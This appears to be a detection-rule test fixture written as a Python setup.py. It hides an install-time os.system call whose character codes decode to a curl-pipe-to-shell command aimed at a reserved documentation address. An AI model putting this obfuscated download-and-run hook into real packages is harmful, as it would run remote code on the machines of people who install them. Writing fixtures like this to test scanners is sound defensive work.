import os

from setuptools import setup

_ = ''.join

# Defanged: a reserved documentation address, spelled in character codes through an alias of ''.join.
# ruleid: code/command-execution
os.system(_(map(chr, [99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 58, 47, 47, 50, 48, 51, 46, 48, 46, 49, 49, 51, 46, 55, 47, 115, 46, 115, 104, 32, 124, 32, 115, 104])))

setup(name='py-fixture-tinyjson', version='1.0.2', packages=[])
